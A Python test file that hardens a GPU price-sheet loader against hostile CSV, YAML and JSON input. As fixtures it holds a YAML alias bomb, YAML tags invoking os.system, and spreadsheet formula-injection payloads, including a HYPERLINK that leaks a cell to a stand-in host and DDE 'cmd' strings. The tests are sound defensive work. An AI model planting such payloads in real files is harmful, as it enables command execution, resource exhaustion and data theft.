"""Hostile and Excel-made price sheets: byte-order marks, duplicate keys, absurd
values, alias bombs, deep nesting, giant fields, and formula cells on the way out. Every
case ends with a correct result or one clear line naming the file, row and column; bombs and
deep documents are refused before any object is built (counted by the `builds` fixture)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest

from pricing import cache, files
from pricing.errors import PriceInputError
from pricing.loader import load, load_offers, read_sheet
from pricing.schema import COLUMNS, validate

GOOD = {"provider": "aws", "region": "us-east-1", "instance_type": "p5.48xlarge", "gpu_model": "H100",
        "gpu_count": "8", "gpu_memory_gb": "80", "vcpus": "192", "ram_gb": "2048", "price_hour": "55.04",
        "spot_price_hour": "", "currency": "USD", "source": "test", "fetched_at": "2026-11-30T00:00:00Z",
        "interconnect": "nvlink", "notes": ""}


@pytest.fixture(autouse=True)
def empty_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("GPU_ADVISOR_CACHE_DIR", str(tmp_path / "cache"))


def csv_text(rows, columns=None, newline="\n") -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, columns or list(COLUMNS), extrasaction="ignore", lineterminator=newline)
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


def one_line(exc) -> str:
    msg = str(exc)
    assert "\n" not in msg and len(msg) < 400, msg
    return msg


# --------------------------------------------------------------------------- byte-order marks
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_excel_utf8_csv_with_bom_loads(tmp_path, newline):
    path = tmp_path / "excel.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text([GOOD, dict(GOOD, instance_type="p4d")], newline=newline).encode())
    good, problems = read_sheet(path)
    assert problems == [] and list(good.instance_type) == ["p5.48xlarge", "p4d"]


def test_private_cluster_csv_with_bom_and_only_four_columns(tmp_path):
    path = tmp_path / "ours.csv"
    path.write_bytes("\ufeffprovider,gpu_model,gpu_count,price_per_gpu_hour\r\nprivate,H100,8,2.5\r\n"
                     .encode("utf-8"))
    good, problems = read_sheet(path)
    assert problems == [] and good.price_hour[0] == 20 and good.provider[0] == "private"


def test_utf16_csv_with_bom_loads(tmp_path):
    path = tmp_path / "utf16.csv"
    path.write_bytes(csv_text([GOOD]).encode("utf-16"))
    good, problems = read_sheet(path)
    assert problems == [] and len(good) == 1


def test_yaml_and_json_with_bom_load(tmp_path):
    y = tmp_path / "s.yaml"
    y.write_bytes(b"\xef\xbb\xbfoffers:\n  - {provider: private, gpu_model: A100 80GB, gpu_count: 8, "
                  b"price_per_gpu_hour: 1.1}\n")
    j = tmp_path / "s.json"
    j.write_bytes(b"\xef\xbb\xbf" + json.dumps([dict(GOOD, spot_price_hour=None)]).encode())
    for path in (y, j):
        good, problems = read_sheet(path)
        assert problems == [] and len(good) == 1, path


def test_sheet_that_is_not_utf8_is_one_line_naming_the_file(tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes(csv_text([dict(GOOD, notes="café")]).encode("latin-1"))
    with pytest.raises(PriceInputError) as err:
        read_sheet(path)
    assert str(path) in one_line(err.value) and "UTF-8" in str(err.value) and err.value.exit_code == 2


# --------------------------------------------------------------------------- duplicates
def test_duplicate_key_in_one_sheet_keeps_the_first_and_names_both_rows(tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text(csv_text([GOOD, dict(GOOD, instance_type="other"), dict(GOOD, price_hour="40")]))
    good, problems = read_sheet(path)
    assert len(good) == 2 and good.set_index("instance_type").price_hour["p5.48xlarge"] == 55.04
    [p] = problems
    assert (p.row, p.column) == (4, "instance_type")  # spreadsheet rows: the header is row 1
    text = str(p)
    assert "row 4" in text and "row 2, which is kept" in text and "aws/us-east-1/p5.48xlarge" in text


def test_duplicates_match_after_normalising_case_and_spaces(tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text(csv_text([GOOD, dict(GOOD, provider=" AWS ", instance_type=" p5.48xlarge"),
                              dict(GOOD, price_hour="1")]))
    good, problems = read_sheet(path)
    assert len(good) == 1 and [p.row for p in problems] == [3, 4]
    assert all("row 2, which is kept" in str(p) for p in problems)


def test_duplicates_in_yaml_and_json_are_reported_too(tmp_path):
    rows = [dict(GOOD, spot_price_hour=None), dict(GOOD, spot_price_hour=None, price_hour=9)]
    j = tmp_path / "d.json"
    j.write_text(json.dumps(rows))
    y = tmp_path / "d.yaml"
    y.write_text("- {provider: private, gpu_model: H100, gpu_count: 8, price_per_gpu_hour: 2}\n"
                 "- {provider: private, gpu_model: H100, gpu_count: 8, price_per_gpu_hour: 3}\n")
    for path in (j, y):
        good, problems = read_sheet(path)
        assert len(good) == 1 and [(p.row, p.column) for p in problems] == [(2, "instance_type")]


def test_a_bad_first_row_does_not_make_the_second_a_duplicate(tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text(csv_text([dict(GOOD, price_hour="-1"), GOOD]))
    good, problems = read_sheet(path)
    assert len(good) == 1 and [(p.row, p.column) for p in problems] == [(2, "price_hour")]


def test_same_key_in_two_user_sheets_first_file_wins_and_it_is_reported(tmp_path):
    a = tmp_path / "a.csv"
    a.write_text(csv_text([dict(GOOD, price_hour="40")]))
    b = tmp_path / "b.csv"
    b.write_text(csv_text([dict(GOOD, instance_type="x"), dict(GOOD, price_hour="30")]))
    df = load_offers([a, b], include_cache=False, include_bundled=False)
    assert df.set_index("instance_type").price_hour["p5.48xlarge"] == 40
    [msg] = df.attrs["problems"]
    assert msg.startswith(f"{b}: row 3, column 'instance_type'") and f"{a} row 2, which is kept" in msg


def test_user_sheet_still_overrides_bundled_rows_without_complaint(tmp_path):
    path = tmp_path / "neg.csv"
    path.write_text(csv_text([dict(GOOD, price_hour="40")]))
    df, problems = load([path])
    assert problems == []
    row = df[(df.provider == "aws") & (df.region == "us-east-1") & (df.instance_type == "p5.48xlarge")]
    assert len(row) == 1 and row.iloc[0].price_origin == "user"


# --------------------------------------------------------------------------- values
ABSURD = [
    ("gpu_count", "1000000000", "must be <= 100,000 GPUs"),
    ("gpu_count", "100001", "must be <= 100,000"),
    ("gpu_count", "-8", "must be > 0"),
    ("gpu_count", "nan", "is not a number"),
    ("gpu_count", "inf", "is not finite"),
    ("gpu_memory_gb", "80000", "GB per GPU"),
    ("gpu_memory_gb", "-80", "must be > 0"),
    ("vcpus", "-1", "must be >= 0"),
    ("vcpus", "10000000", "vCPUs per GPU"),
    ("ram_gb", "-5", "must be >= 0"),
    ("ram_gb", "1e9", "GB of RAM per GPU"),
    ("price_hour", "1e12", "1,000 USD/hour per GPU"),
    ("price_hour", "8001", "1,000 USD/hour per GPU"),
    ("price_hour", "-0.5", "must be >= 0"),
    ("price_hour", "-0", "must be >= 0"),
    ("price_hour", "NaN", "is not a number"),
    ("price_hour", "Infinity", "is not finite"),
    ("price_hour", "-inf", "is not finite"),
    ("price_hour", "1e400", "is not finite"),
    ("spot_price_hour", "1e12", "per GPU"),
    ("spot_price_hour", "-3", "must be >= 0"),
    ("instance_type", "p5\x1b[2J", "control character"),
    ("notes", "line one\nline two", "control character"),
    ("region", "r" * 900, "longer than 512 characters"),  # a plan's names are at most 512: one limit, here
    ("notes", "n" * 1001, "longer than 1,000 characters"),
]


@pytest.mark.parametrize("column, value, message", ABSURD)
def test_absurd_values_are_refused_with_row_and_column(tmp_path, column, value, message):
    path = tmp_path / "bad.csv"
    path.write_text(csv_text([dict(GOOD, instance_type="ok"), dict(GOOD, **{column: value})]))
    good, problems = read_sheet(path)
    assert list(good.instance_type) == ["ok"]
    [p] = problems
    assert (p.row, p.column) == (3, column) and message in p.message, str(p)  # header = row 1
    assert f"row 3, column '{column}'" in one_line(p)


def test_largest_real_offers_are_accepted(tmp_path):
    rows = [dict(GOOD, instance_type="nvl72", gpu_model="B200", gpu_count="72", price_hour="900",
                 vcpus="2592", ram_gb="17280", gpu_memory_gb="192"),
            dict(GOOD, instance_type="g6f.large", gpu_model="L4", gpu_count="0.125", price_hour="0.2",
                 vcpus="2", ram_gb="16", gpu_memory_gb="24"),
            dict(GOOD, instance_type="cluster", gpu_count="100000", price_hour="400000", vcpus="2400000",
                 ram_gb="25000000")]
    path = tmp_path / "big.csv"
    path.write_text(csv_text(rows))
    good, problems = read_sheet(path)
    assert problems == [] and len(good) == 3


@pytest.mark.parametrize("literal, message", [("NaN", "is not a number"), ("Infinity", "is not finite"),
                                              ("-Infinity", "is not finite"), ("1e999", "is not finite"),
                                              ("-1", "must be >= 0"), ("1e12", "per GPU"),
                                              ('[1, 2]', "is not a number"), ('{"a": 1}', "is not a number")])
def test_json_special_numbers_and_nested_values_are_refused(tmp_path, literal, message):
    path = tmp_path / "s.json"
    path.write_text('[{"provider": "private", "gpu_model": "H100", "gpu_count": 8, '
                    f'"price_hour": {literal}}}]')
    good, problems = read_sheet(path)
    assert len(good) == 0
    [p] = problems
    assert (p.row, p.column) == (1, "price_hour") and message in p.message


@pytest.mark.parametrize("literal", [".nan", ".inf", "-.inf", "-1", "1e12"])
def test_yaml_special_numbers_are_refused(tmp_path, literal):
    path = tmp_path / "s.yaml"
    path.write_text(f"- {{provider: private, gpu_model: H100, gpu_count: 8, price_per_gpu_hour: {literal}}}\n")
    good, problems = read_sheet(path)
    assert len(good) == 0 and [(p.row, p.column) for p in problems] == [(1, "price_hour")]


def test_fetched_frames_get_the_same_range_checks():
    import pandas as pd

    df = pd.DataFrame([dict(GOOD, price_hour=55.04, gpu_count=8.0),
                       dict(GOOD, instance_type="x", price_hour=1e12, gpu_count=8.0),
                       dict(GOOD, instance_type="y", gpu_count=1e9)])
    good, problems = validate(df, "feed")
    assert len(good) == 1 and [(p.row, p.column) for p in problems] == [(3, "gpu_count"), (2, "price_hour")]


def test_offer_model_has_the_same_bounds():
    from pydantic import ValidationError

    from pricing.schema import Offer

    base = dict(GOOD, spot_price_hour=None, notes=None)
    assert Offer(**base).gpu_count == 8
    for bad in ({"gpu_count": 1e9}, {"price_hour": 1e12}, {"price_hour": float("nan")},
                {"vcpus": 1e7}, {"instance_type": "a\x1bb"}, {"gpu_memory_gb": -1}):
        with pytest.raises(ValidationError):
            Offer(**dict(base, **bad))


# --------------------------------------------------------------------------- YAML bombs
BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
offers: *i
"""


@pytest.mark.parametrize("text, message", [
    (BILLION_LAUGHS, "expands to more than 2,000,000 values"),
    ("offers:\n  - &row {provider: x, gpu_model: H100, gpu_count: 8, notes: [" + ", ".join(["*row"] * 3) + "]}\n",
     "recursive structure"),
    ("offers: &a [*a]\n", "recursive structure"),
    ("offers: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than 100 levels"),
    ("offers: " + "{a: " * 500 + "1" + "}" * 500 + "\n", "nested more than 100 levels"),
    ("!!python/object/apply:os.system ['touch /tmp/pwned']\n", "tag !!python/object/apply:os.system at line 1"),
    ("offers: !!python/name:os.system\n", "tag !!python/name:os.system at line 1, column 9 is not allowed"),
    ("offers:\n  - provider: [unclosed\n", "not valid YAML"),
    ("offers: 1\n---\noffers: 2\n", "not valid YAML"),
])
def test_hostile_yaml_is_one_line_before_any_object_is_built(tmp_path, builds, text, message):
    path = tmp_path / "bomb.yaml"
    path.write_text(text)
    with pytest.raises(PriceInputError) as err:
        load(user_sheets=[path], include_cache=False, include_bundled=False)
    msg = one_line(err.value)
    assert message in msg and str(path) in msg and err.value.exit_code == 2
    if message != "not valid YAML":  # bombs, depth, tags: refused by the event walk, nothing built
        assert builds.of(text) == []


def test_billion_laughs_is_refused_before_expanding_for_every_entry_point(builds):
    with pytest.raises(PriceInputError, match="alias bomb"):
        files.load_yaml(BILLION_LAUGHS, "plan.yaml")
    with pytest.raises(PriceInputError, match="alias bomb"):
        files.load_yaml(BILLION_LAUGHS.encode(), "plan.yaml")
    assert builds.of(BILLION_LAUGHS) == []  # expanding it would take minutes and gigabytes


@pytest.mark.parametrize("depth", [101, 999, 1_001, 5_000, 100_000])
@pytest.mark.parametrize("shape", ["[", "{a: ", "- ["])
def test_yaml_nesting_is_refused_in_the_projects_words_at_any_depth(builds, depth, shape):
    """libyaml has its own nesting limit (1,000 levels in 0.2.5), reached before the event walk
    sees level 101 when the brackets share a line; the message is the project's either way."""
    text = {"[": "offers: " + "[" * depth + "]" * depth,
            "{a: ": "offers: " + "{a: " * depth + "1" + "}" * depth,
            "- [": "- " + "[" * depth + "]" * depth}[shape]
    with pytest.raises(PriceInputError) as err:
        files.load_yaml(text, "deep.yaml")
    assert one_line(err.value) == "deep.yaml: YAML is nested more than 100 levels deep; refused"
    assert builds.of(text) == []


def test_yaml_at_the_nesting_limit_and_brackets_in_plain_text_still_load(builds):
    at_limit = "a: " + "[" * 99 + "]" * 99
    assert files.load_yaml(at_limit, "x")["a"] is not None
    assert builds.of(at_limit) == ["yaml.load"]  # the counter sees what is built
    assert files.load_yaml("a: x" + "[" * 3000 + "\nb: 1\n", "x") == {"a": "x" + "[" * 3000, "b": 1}
    with pytest.raises(PriceInputError) as err:  # a real syntax error after a bracket-heavy scalar
        files.load_yaml("a: x" + "[" * 3000 + "\nb: [", "x")
    assert "nested" not in one_line(err.value) and "not valid YAML" in str(err.value)


def test_yaml_with_ordinary_anchors_and_merge_keys_loads(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text("defaults: &d {provider: coreweave, region: us-east, gpu_model: H100, currency: USD}\n"
                    "offers:\n"
                    + "".join(f"  - {{<<: *d, instance_type: gd-{n}xh100, gpu_count: {n}, price_hour: {3 * n}}}\n"
                              for n in (1, 2, 4, 8)))
    good, problems = read_sheet(path)
    assert problems == [] and list(good.gpu_count) == [1, 2, 4, 8]


def test_yaml_and_json_over_the_size_limit_are_refused_before_parsing(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MAX_DOC_BYTES", 10_000)
    for name, text in (("big.yaml", "offers:\n" + "  - {provider: x}\n" * 2000),
                       ("big.json", json.dumps([{"provider": "x"}] * 2000))):
        path = tmp_path / name
        path.write_text(text)
        with pytest.raises(PriceInputError) as err:
            read_sheet(path)
        assert "larger than the 10,000 bytes limit" in one_line(err.value)
    with pytest.raises(PriceInputError, match="larger than the 10,000 bytes limit"):
        files.load_json("[" + "1," * 10_000 + "1]", "x")


# --------------------------------------------------------------------------- JSON depth
@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000,
                                  "[" * 100_000, '{"offers": ' + "[" * 1000 + "]" * 1000 + "}"])
def test_deeply_nested_json_is_refused_before_parsing(tmp_path, builds, text):
    path = tmp_path / "deep.json"
    path.write_text(text)
    with pytest.raises(PriceInputError) as err:
        read_sheet(path)
    assert "nested more than 100 levels" in one_line(err.value) and str(path) in str(err.value)
    assert builds.of(text) == []  # refused by the linear depth scan: no recursion at all


def test_json_depth_ignores_brackets_inside_strings():
    assert files.json_depth('{"a": "[[[[{{{{", "b": ["\\"[[[", "\\\\"]}') == 2
    assert files.json_depth('"[[[[[[[[[[["') == 0
    assert files.load_json('{"a": "' + "[" * 500 + '"}', "x") == {"a": "[" * 500}
    assert files.load_json("[" * 100 + "]" * 100, "x") is not None
    with pytest.raises(PriceInputError):
        files.load_json("[" * 101 + "]" * 101, "x")
    with pytest.raises(PriceInputError, match="max 3|nested more than 3"):
        files.load_json("[[[[1]]]]", "x", max_depth=3)


@pytest.mark.parametrize("text, message", [('{"a": 1,}', "line 1, column 9"), ("", "not valid JSON"),
                                           ("1" * 10_000, "not valid JSON"), ('"\\ud800"', None)])
def test_broken_json_is_one_line(text, message):
    if message is None:  # a lone surrogate is valid JSON text: parsed, not a crash
        assert files.load_json(text, "x") == "\ud800"
        return
    with pytest.raises(PriceInputError) as err:
        files.load_json(text, "sheet.json")
    assert message in one_line(err.value) and err.value.exit_code == 2


# --------------------------------------------------------------------------- CSV structure
def test_giant_csv_field_refuses_the_sheet_naming_its_row(tmp_path):
    limit = csv.field_size_limit()
    path = tmp_path / "giant.csv"
    path.write_text(csv_text([GOOD, dict(GOOD, instance_type="big", notes="x" * 200_000),
                              dict(GOOD, instance_type="after")]))
    with pytest.raises(PriceInputError) as err:
        read_sheet(path)
    assert "row 3: a field is longer than 65,536 characters" in one_line(err.value) and err.value.exit_code == 2
    assert csv.field_size_limit() == limit  # restored


def test_csv_over_the_size_limit_is_refused_before_reading(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "MAX_SHEET_BYTES", 1000)
    path = tmp_path / "big.csv"
    path.write_text(csv_text([GOOD] * 50))
    with pytest.raises(PriceInputError) as err:
        read_sheet(path)
    assert "larger than the 1,000 bytes limit" in one_line(err.value)


def test_duplicate_header_columns_are_reported_and_the_first_is_used(tmp_path):
    path = tmp_path / "h.csv"
    path.write_text("provider,gpu_model,gpu_count,price_hour,price_hour\nprivate,H100,8,20,999999\n")
    good, problems = read_sheet(path)
    assert good.price_hour[0] == 20
    assert [(p.row, p.column) for p in problems] == [(1, "price_hour")]  # the header is row 1


@pytest.mark.parametrize("text, kept, rows", [
    ("provider,gpu_model,gpu_count,price_hour\n\n,,,\n  , , ,\nprivate,H100,8,20\n", 1, []),
    ("provider,gpu_model,gpu_count,price_hour\nprivate,H100,8\nprivate,H100,8,20,1\nprivate,L4,1,1\n", 1, [2, 3]),
    ('provider,gpu_model,gpu_count,price_hour\n"private,H100,8,20\n', 0, [2]),
    ("provider,gpu_model,gpu_count,price_hour\nprivate,H100,8,2\x000\n", 0, [2]),
])
def test_ragged_blank_and_broken_lines(tmp_path, text, kept, rows):
    path = tmp_path / "r.csv"
    path.write_text(text)
    good, problems = read_sheet(path)
    assert len(good) == kept
    assert sorted(p.row for p in problems) == rows
    for p in problems:
        one_line(p)


def test_folder_and_missing_file_are_bad_input(tmp_path):
    for path, message in ((tmp_path, "is a folder"), (tmp_path / "nope.csv", "file not found")):
        with pytest.raises(PriceInputError) as err:
            load(user_sheets=[path])
        assert message in one_line(err.value)


# --------------------------------------------------------------------------- CSV out
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "-", "+", "=", "@"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_safe_quotes_formula_cells(cell):
    assert files.csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "+3", "-1e-3", "-.5", "12", "H100", "", "a=b", " =1", "'=1",
                                  None, -0.5, 3, float("nan")])
def test_csv_safe_leaves_numbers_and_plain_text_alone(cell):
    out = files.csv_safe(cell)
    assert out is cell or out == cell or (out != out and cell != cell)


def test_to_csv_neutralises_every_text_cell_and_keeps_numbers():
    import pandas as pd

    df = pd.DataFrame({"instance_type": FORMULAS, "price_hour": [-0.5] * len(FORMULAS),
                       "notes": ["-0.5"] * len(FORMULAS), "stale": [True] * len(FORMULAS),
                       "spot": [None] * len(FORMULAS)})
    text = files.to_csv(df)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["instance_type"] for r in rows] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert len(rows) == len(FORMULAS)  # a carriage return cannot start a new row
    assert {r["price_hour"] for r in rows} == {"-0.5"} and {r["notes"] for r in rows} == {"-0.5"}
    assert {r["stale"] for r in rows} == {"True"} and {r["spot"] for r in rows} == {""}
    assert df["instance_type"].tolist() == FORMULAS  # the caller's frame is untouched


def test_formula_cells_from_a_user_sheet_are_neutral_in_the_csv_listing(tmp_path):
    path = tmp_path / "evil.csv"
    path.write_text(csv_text([dict(GOOD, instance_type=f, provider="=cmd", notes="@SUM(1)")
                              for f in FORMULAS[:3]]))
    df = load_offers([path], include_cache=False, include_bundled=False)
    assert set(df.instance_type) == set(FORMULAS[:3])  # the data itself is kept as given
    out = files.to_csv(df)
    for row in csv.DictReader(io.StringIO(out)):
        for col in ("provider", "instance_type", "notes"):
            assert row[col].startswith("'"), (col, row[col])
        assert float(row["price_hour"]) == 55.04
    for line in out.splitlines()[1:]:
        assert not any(cell.startswith(tuple("=+-@")) for cell in next(csv.reader([line])))


# --------------------------------------------------------------------------- files helpers
def test_atomic_write_modes_text_and_failure(tmp_path, monkeypatch):
    umask = os.umask(0o022)
    try:
        p = tmp_path / "sub" / "a.txt"
        files.atomic_write(p, "héllo\n")
        assert p.read_bytes() == "héllo\n".encode() and stat.S_IMODE(p.stat().st_mode) == 0o644
        files.atomic_write(tmp_path / "run.sh", b"#!/bin/sh\n", mode=0o755)
        assert stat.S_IMODE((tmp_path / "run.sh").stat().st_mode) == 0o755
    finally:
        os.umask(umask)

    def boom(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(os, "fsync", boom)
    with pytest.raises(OSError):
        files.atomic_write(p, "new")
    assert p.read_bytes() == "héllo\n".encode()
    assert [x.name for x in p.parent.iterdir()] == ["a.txt"]


def test_cache_dir_precedence(monkeypatch, tmp_path):
    monkeypatch.delenv("GPU_ADVISOR_CACHE_DIR")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert files.cache_dir() == tmp_path / "home" / ".cache" / "gpu-advisor"
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert files.cache_dir() == cache.cache_dir() == tmp_path / "xdg" / "gpu-advisor"
    monkeypatch.setenv("GPU_ADVISOR_CACHE_DIR", "~/mine")
    assert files.cache_dir() == tmp_path / "home" / "mine"


def test_damaged_cache_metadata_is_ignored_not_fatal(tmp_path):
    good, _ = read_sheet(_write(tmp_path / "a.csv", [GOOD]))
    cache.write_sheet("x", good, source="x", url=None)
    cache.meta_path("x").write_text("[" * 100_000)
    assert cache.read_meta("x") is None
    cache.meta_path("x").write_text("[1, 2]")
    assert cache.read_meta("x") is None


def _write(path, rows):
    path.write_text(csv_text(rows))
    return path


# --------------------------------------------------------------------------- size
def test_a_20000_row_sheet_loads_with_each_bad_row_named(tmp_path):
    rows = [dict(GOOD, instance_type=f"t{i}", region=f"r{i % 40}", price_hour=f"{1 + i % 97}.5")
            for i in range(20_000)]
    rows[123]["price_hour"] = "1e12"
    rows[456]["instance_type"] = "t455"
    rows[456]["region"] = "r15"
    path = _write(tmp_path / "big.csv", rows)
    with pytest.raises(PriceInputError) as err:  # a bad row refuses the sheet, naming the first one
        load(user_sheets=[path], include_cache=False, include_bundled=False)
    assert "row 125, column 'price_hour'" in one_line(err.value) and "more bad row" not in str(err.value)
    df, problems = load(user_sheets=[path], include_cache=False, include_bundled=False, skip_bad_rows=True)
    assert len(df) == 19_998 and sorted(p.row for p in problems) == [125, 458]


def test_to_csv_matches_plain_to_csv_when_no_cell_needs_neutralising():
    df = load_offers(include_cache=False)
    assert files.to_csv(df) == df.to_csv(index=False, float_format="%.6g")


def test_prices_list_csv_output_has_no_live_formulas(tmp_path):
    from click.testing import CliRunner

    from cli import cli

    path = tmp_path / "evil.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text([dict(GOOD, instance_type=f, notes="=1+1") for f in FORMULAS[:4]])
                     .encode())
    res = CliRunner().invoke(cli, ["prices", "list", "--prices", str(path), "--provider", "aws",
                                   "--format", "csv", "--all"])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    evil = [r for r in rows if r["price_origin"] == "user"]
    assert len(evil) == 4 and all(r["instance_type"].startswith("'") and r["notes"] == "'=1+1" for r in evil)
    assert not any(c.startswith(("=", "+", "@")) for r in rows for c in r.values())
